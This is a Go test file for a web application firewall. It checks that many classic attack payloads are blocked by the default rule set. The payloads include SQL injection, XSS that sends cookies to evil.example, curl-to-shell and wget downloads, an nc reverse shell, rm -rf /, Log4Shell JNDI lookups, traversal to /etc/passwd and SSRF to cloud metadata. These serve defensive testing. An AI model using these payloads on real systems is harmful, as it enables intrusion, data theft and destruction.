package waf

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/moat-gateway/moat/internal/config"
)

// attacks are payloads of the common classes in each place a client can put
// them. Each must be refused by the default configuration (paranoia level 1,
// inbound threshold 5) by a rule of the expected family.
var attacks = []struct {
	desc   string
	r      req
	attack string // expected entry of waf_attacks
	family string // expected rule ID prefix (CRS file: 942 SQLi, 941 XSS, ...)
}{
	// SQL injection.
	{desc: "sqli tautology in query", r: req{target: "/books?q=1'%20OR%20'1'='1"}, attack: "sqli", family: "942"},
	{desc: "sqli union select in query", r: req{target: "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"}, attack: "sqli", family: "942"},
	{desc: "sqli stacked drop table in query", r: req{target: "/items?id=1;%20DROP%20TABLE%20users--"}, attack: "sqli", family: "942"},
	{desc: "sqli time based in query", r: req{target: "/items?sort=name%20AND%20SLEEP(5)--"}, attack: "sqli", family: "942"},
	{desc: "sqli comment login bypass in query", r: req{target: "/login?user=admin'--&pass=x"}, attack: "sqli", family: "942"},
	{desc: "sqli in User-Agent", r: req{target: "/books", headers: map[string]string{"User-Agent": "' or 1=1 --"}}, attack: "sqli", family: "942"},
	{desc: "sqli in Referer", r: req{target: "/books", headers: map[string]string{"Referer": "1' UNION SELECT password FROM users --"}}, attack: "sqli", family: "942"},
	{desc: "sqli in cookie", r: req{target: "/books", headers: map[string]string{"Cookie": "session=4f1c2a; pref=1' UNION SELECT 1,2,3--"}}, attack: "sqli", family: "942"},
	{desc: "sqli in JSON field", r: req{method: "POST", target: "/search", body: `{"filter":"1' OR '1'='1"}`}, attack: "sqli", family: "942"},
	{desc: "sqli in nested JSON", r: req{method: "POST", target: "/reports", body: `{"query":{"where":"id=1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables"}}`}, attack: "sqli", family: "942"},
	{desc: "sqli in JSON array", r: req{method: "PUT", target: "/orders/7", body: `{"ids":["18","19' or '1'='1"]}`}, attack: "sqli", family: "942"},
	{desc: "sqli in form body", r: req{method: "POST", target: "/login", body: "username=admin'--&password=x",
		headers: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}}, attack: "sqli", family: "942"},
	// 942220 at PL1; Coraza's @rx pre-filter (SecRxPreFilter On) misses it.
	{desc: "sqli php strtod number in query", r: req{target: "/items?i=2.2250738585072011e-308"}, attack: "sqli", family: "942"},
	{desc: "nosql operator injection in query", r: req{target: "/users?username[$ne]=x&password[$ne]=x"}, attack: "sqli", family: "942"},

	// Cross-site scripting.
	{desc: "xss script tag in query", r: req{target: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"}, attack: "xss", family: "941"},
	{desc: "xss event handler in query", r: req{target: "/profile?name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E"}, attack: "xss", family: "941"},
	{desc: "xss javascript URI in query", r: req{target: "/redirect?u=javascript:alert(1)"}, attack: "xss", family: "941"},
	{desc: "xss svg onload in JSON", r: req{method: "POST", target: "/users/me", body: `{"bio":"<svg/onload=alert(1)>"}`}, attack: "xss", family: "941"},
	{desc: "xss iframe in JSON", r: req{method: "PATCH", target: "/comments/3", body: `{"comment":"<iframe src=\"javascript:alert(1)\"></iframe>"}`,
		headers: map[string]string{"Content-Type": "application/merge-patch+json"}}, attack: "xss", family: "941"},
	{desc: "xss in JSON key", r: req{method: "POST", target: "/settings", body: `{"<script>alert(1)</script>":"x"}`}, attack: "xss", family: "941"},
	{desc: "xss in Referer", r: req{target: "/books", headers: map[string]string{"Referer": "https://example.com/<script>alert(1)</script>"}}, attack: "xss", family: "941"},
	{desc: "xss in User-Agent", r: req{target: "/books", headers: map[string]string{"User-Agent": "<script>alert('x')</script>"}}, attack: "xss", family: "941"},
	{desc: "xss in cookie", r: req{target: "/books", headers: map[string]string{"Cookie": "theme=<script>alert(1)</script>"}}, attack: "xss", family: "941"},
	{desc: "xss in form body", r: req{method: "POST", target: "/guestbook", body: "comment=%3Cscript%3Edocument.location%3D'https://evil.example/'%2Bdocument.cookie%3C/script%3E",
		headers: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}}, attack: "xss", family: "941"},

	// Command injection.
	{desc: "rce chained command in query", r: req{target: "/ping?host=127.0.0.1;cat%20/etc/passwd"}, attack: "rce", family: "932"},
	{desc: "rce command substitution in query", r: req{target: "/ping?host=$(curl%20http://evil.example/x.sh|sh)"}, attack: "rce", family: "932"},
	{desc: "rce reverse shell in query", r: req{target: "/exec?cmd=|nc%20-e%20/bin/sh%2010.0.0.1%204444"}, attack: "rce", family: "932"},
	{desc: "rce wget in JSON", r: req{method: "POST", target: "/hooks", body: `{"host":"example.com && wget http://evil.example/shell.sh -O /tmp/s"}`}, attack: "rce", family: "932"},
	{desc: "rce rm in JSON", r: req{method: "POST", target: "/files/convert", body: `{"file":"a.txt; rm -rf /"}`}, attack: "rce", family: "932"},
	{desc: "shellshock in custom header", r: req{target: "/cgi/status", headers: map[string]string{"X-Api-Version": "() { :;}; echo; /bin/cat /etc/passwd"}}, attack: "rce", family: "932"},
	{desc: "shellshock in User-Agent", r: req{target: "/books", headers: map[string]string{"User-Agent": "() { :; }; /bin/bash -c \"id\""}}, attack: "rce", family: "932"},

	// Path traversal and local file inclusion.
	{desc: "traversal in query", r: req{target: "/files?path=../../../../etc/passwd"}, attack: "lfi", family: "930"},
	{desc: "encoded traversal in query", r: req{target: "/download?f=..%2f..%2f..%2fetc%2fshadow"}, attack: "lfi", family: "930"},
	{desc: "encoded traversal in path", r: req{target: "/static/..%2f..%2f..%2fetc%2fpasswd"}, attack: "lfi", family: "930"},
	{desc: "traversal in JSON", r: req{method: "POST", target: "/render", body: `{"template":"../../../../etc/passwd"}`}, attack: "lfi", family: "930"},
	{desc: "traversal in custom header", r: req{target: "/books", headers: map[string]string{"X-File": "../../../../windows/win.ini"}}, attack: "lfi", family: "930"},
	{desc: "os file in cookie", r: req{target: "/books", headers: map[string]string{"Cookie": "lang=../../../../etc/passwd"}}, attack: "lfi", family: "930"},

	// Other classes CRS covers at paranoia level 1.
	{desc: "remote file inclusion by IP URL", r: req{target: "/page?url=http://203.0.113.9/shell.txt?"}, attack: "rfi", family: "931"},
	{desc: "php code in JSON", r: req{method: "POST", target: "/notes", body: `{"code":"<?php system($_GET['c']); ?>"}`}, attack: "injection-php", family: "933"},
	{desc: "log4shell in custom header", r: req{target: "/books", headers: map[string]string{"X-Api-Version": "${jndi:ldap://evil.example/a}"}}, attack: "rce", family: "944"},
	{desc: "log4shell in JSON", r: req{method: "POST", target: "/login", body: `{"username":"${jndi:ldap://evil.example:1389/Exploit}"}`}, attack: "rce", family: "944"},
	{desc: "node.js injection in JSON", r: req{method: "POST", target: "/eval", body: `{"expr":"require('child_process').exec('id')"}`}, attack: "injection-generic", family: "934"},
	{desc: "ssrf to cloud metadata", r: req{target: "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"}, attack: "ssrf", family: "934"},
}

// TestAttacksBlocked checks that each attack is refused with 403
// waf_blocked and that the matched rules and score are noted for audit.
func TestAttacksBlocked(t *testing.T) {
	s := newStage(t, config.WAF{})
	for _, tt := range attacks {
		t.Run(tt.desc, func(t *testing.T) {
			ex, rej := verdict(t, s, tt.r)
			if rej == nil {
				t.Fatalf("passed; findings %v", ex.Findings)
			}
			if rej.Status != http.StatusForbidden || rej.ReasonID != ReasonBlocked {
				t.Fatalf("refused with %d %s (%s), want 403 %s", rej.Status, rej.ReasonID, rej.Detail, ReasonBlocked)
			}
			ids := ruleIDs(ex)
			if !hasRule(ex, 949110) {
				t.Errorf("rule IDs %v lack 949110, the inbound anomaly evaluation", ids)
			}
			if !slices.ContainsFunc(ids, func(id int) bool { return strings.HasPrefix(itoa(id), tt.family) }) {
				t.Errorf("rule IDs %v have none of family %s", ids, tt.family)
			}
			if attacks, _ := ex.Findings[NoteAttacks].([]string); !slices.Contains(attacks, tt.attack) {
				t.Errorf("attacks %v lack %q", attacks, tt.attack)
			}
			if score, _ := ex.Findings[NoteScore].(int); score < 5 {
				t.Errorf("score %d, want at least the threshold 5", score)
			}
			if _, ok := ex.Findings[NoteWouldBlock]; ok {
				t.Errorf("%s noted in block mode", NoteWouldBlock)
			}
		})
	}
}
